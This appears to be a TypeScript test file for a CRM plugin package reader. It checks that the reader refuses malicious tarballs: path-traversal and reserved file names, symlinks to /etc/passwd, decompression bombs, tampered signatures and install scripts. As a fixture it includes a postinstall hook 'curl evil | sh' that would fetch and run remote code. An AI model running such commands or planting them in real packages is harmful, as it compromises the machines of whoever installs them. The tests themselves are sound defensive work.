import { mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { create, Header } from 'tar';
import { describe, expect, it } from 'vitest';
import { definePlugin, defineObject, field, label, StrataError, type Plugin } from '@stratacrm/sdk';
import { newPublisherKey, signFiles, tarballOf } from '@stratacrm/sdk/packing';
import { packageFiles, packedPlugin } from '../../../testing/plugin-packages.ts';
import { PACKAGE_LIMITS, requireSafePath } from './package-files.ts';
import { readPackage, type PluginPackage } from './plugin-package.ts';
import { readFolder } from './read-folder.ts';
import { readTarball } from './read-tarball.ts';

const { private: key, public: publicKey } = newPublisherKey();
const signer = { key, publisher: 'Example Ltd' };
const sound = plugin();

function plugin(change: Partial<Parameters<typeof definePlugin>[0]> = {}): Plugin {
  return definePlugin({
    id: 'com.example.flights',
    prefix: 'fly',
    version: '1.2.0',
    label: label('Flights', '航班'),
    description: label('Flights of our people.', '员工航班。'),
    documents: defineObject('fly__flight', {
      label: label('Flight', '航班'),
      plural: label('Flights', '航班'),
      fields: { name: field.text(label('Number', '航班号'), { required: true }) },
    }),
    ...change,
  });
}

async function read(tarball: Buffer): Promise<PluginPackage> {
  return readPackage(await readTarball(tarball));
}

async function refusal(work: Promise<unknown>): Promise<string> {
  const error = await work.then(
    () => null,
    (reason: unknown) => reason,
  );
  if (!(error instanceof StrataError)) throw new Error(`not refused: ${String(error)}`);
  expect(['plugin_package_refused', 'plugin_manifest_wrong']).toContain(error.code);
  return error.message;
}

/** A tarball with one entry as no packer would write it. */
function handMade(entry: { path: string; type?: string; linkpath?: string; content?: string }): Buffer {
  const content = Buffer.from(entry.content ?? '');
  const block = Buffer.alloc(512);
  const header = new Header({
    path: entry.path,
    type: (entry.type ?? 'File') as never,
    mode: 0o644,
    size: content.length,
    ...(entry.linkpath !== undefined && { linkpath: entry.linkpath }),
  });
  header.encode(block, 0);
  const body = Buffer.alloc(Math.ceil(content.length / 512) * 512);
  content.copy(body);
  return gzipSync(Buffer.concat([block, body, Buffer.alloc(1024)]));
}

describe('a plugin package', () => {
  it('is read with its publisher, and known by what is in it', async () => {
    const found = await read(packedPlugin(sound, { signer, files: { 'README.md': '# Flights' } }));
    expect(found.manifest.documents.map(({ name }) => name)).toEqual(['fly__flight', 'name']);
    expect(found.signature).toMatchObject({ key: publicKey, publisher: 'Example Ltd' });
    expect([...found.shown.keys()]).toEqual(['README.md']);
    const unsigned = await read(packedPlugin(sound));
    expect(unsigned.signature).toBeNull();
    expect(unsigned.digest).not.toBe(found.digest);
    expect((await read(packedPlugin(sound))).digest).toBe(unsigned.digest);
  });

  it('is read as other packers write it', async () => {
    const folder = mkdtempSync(path.join(os.tmpdir(), 'strata-pack-'));
    for (const [name, content] of packageFiles(sound, { signer })) writeFileSync(path.join(folder, name), content);
    const packed = await create({ gzip: true, cwd: folder, prefix: 'package', portable: true }, ['.']).concat();
    expect((await read(packed)).signature?.key).toBe(publicKey);
    expect(readPackage(await readFolder(folder)).digest).toBe((await read(packed)).digest);
  });

  it.each([
    ['../evil.js'],
    ['package/../../evil.js'],
    ['/etc/passwd'],
    ['package/a\\..\\b.js'],
    ['package/C:evil.js'],
    ['package/con.js'],
    ['package/name '],
    ['evil.js'],
  ])('whose file is called %s is refused', async (name) => {
    await refusal(readTarball(handMade({ path: name, content: 'x' })));
  });

  it('with anything that is no file is refused', async () => {
    for (const type of ['SymbolicLink', 'Link', 'CharacterDevice', 'BlockDevice', 'FIFO'])
      await refusal(readTarball(handMade({ path: 'package/manifest.json', type, linkpath: '/etc/passwd' })));
    const folder = mkdtempSync(path.join(os.tmpdir(), 'strata-pack-'));
    symlinkSync('/etc/passwd', path.join(folder, 'package.json'));
    await refusal(readFolder(folder));
  });

  it('with a file twice, in whatever case, is refused', async () => {
    const files = packageFiles(sound, { files: { 'README.md': 'one', 'readme.MD': 'two' } });
    expect(await refusal(read(tarballOf(files)))).toContain('twice');
    expect(() => requireSafePath('ｅ\u0301'.normalize('NFD') + '\u0000')).toThrow(StrataError);
  });

  it('that grows is left before it has grown', async () => {
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024));
    expect(bomb.length).toBeLessThan(PACKAGE_LIMITS.tarball);
    await refusal(read(bomb));
    const inside = packageFiles(sound, { files: { 'screenshots/a.png': Buffer.alloc(8 * 1024 * 1024) } });
    expect(await refusal(read(tarballOf(inside)))).toContain('grows');
    const many = Object.fromEntries(Array.from({ length: 300 }, (_, n) => [`ui/${n}.html`, 'x']));
    expect(await refusal(read(packedPlugin(sound, { files: many })))).toContain('too many');
    await refusal(read(Buffer.from('no tarball at all')));
    await refusal(read(packedPlugin(sound).subarray(0, 200)));
  });

  it('that would run something when it is installed is refused', async () => {
    for (const packageJson of [
      { scripts: { postinstall: 'curl evil | sh' } },
      { scripts: { prepare: 'x' } },
      { gypfile: true },
      { dependencies: { 'left-pad': '1.0.0' } },
      { bin: { strata: 'x' } },
    ])
      await refusal(read(packedPlugin(sound, { packageJson })));
    expect((await read(packedPlugin(sound, { packageJson: { scripts: { build: 'x' } } }))).name).toBe(
      'com-example-flights',
    );
  });

  it('that is not what was signed is refused', async () => {
    const changed = (work: (files: Map<string, Buffer>) => void): Promise<string> => {
      const files = packageFiles(sound, { signer, files: { 'README.md': 'Flights' } });
      work(files);
      return refusal(read(tarballOf(files)));
    };
    const other = Buffer.from(JSON.stringify(plugin({ label: label('Other', '其他') })));
    expect(await changed((files) => files.set('manifest.json', other))).toContain('"manifest.json" was changed');
    expect(await changed((files) => files.set('plugin.js', Buffer.from('x')))).toContain('was added');
    expect(await changed((files) => files.delete('README.md'))).toContain('is missing');
    const stranger = { key: newPublisherKey().private, publisher: 'Mallory' };
    const ofAnother = signFiles(packageFiles(sound), { id: 'com.example.other', version: '1.2.0' }, stranger);
    expect(await changed((files) => files.set('signature.json', ofAnother))).toContain('another package');
    const own = JSON.parse(packageFiles(sound, { signer }).get('signature.json')!.toString()) as { key: string };
    const swapped = Buffer.from(JSON.stringify({ ...own, key: newPublisherKey().public }));
    expect(await changed((files) => files.set('signature.json', swapped))).toContain('does not fit its key');
  });

  it('whose manifest says what it may not is refused', async () => {
    const objects = (name: string) =>
      defineObject(name, {
        label: label('A', '甲'),
        plural: label('As', '甲'),
        fields: { name: field.text(label('A', '甲')) },
      });
    expect(await refusal(read(packedPlugin(plugin({ documents: objects('flight') }))))).toContain('fly__flight');
    expect(await refusal(read(packedPlugin(plugin({ prefix: '' }))))).toContain('prefix');
    expect(await refusal(read(packedPlugin(plugin({ version: 'latest' }))))).toContain('version');
    const unknown = { ...sound, rights: 'all' } as unknown as Plugin;
    expect(await refusal(read(packedPlugin(Object.assign(unknown, { id: sound.id }))))).toContain('rights');
    const hook = { name: 'a', label: label('A', '甲'), when: 'before', on: ['create'], object: 'account' };
    const withCode = { ...sound, hooks: [hook] } as unknown as Plugin;
    const files = packageFiles(withCode);
    files.delete('plugin.js');
    expect(await refusal(read(tarballOf(files)))).toContain('plugin.js');
  });
});
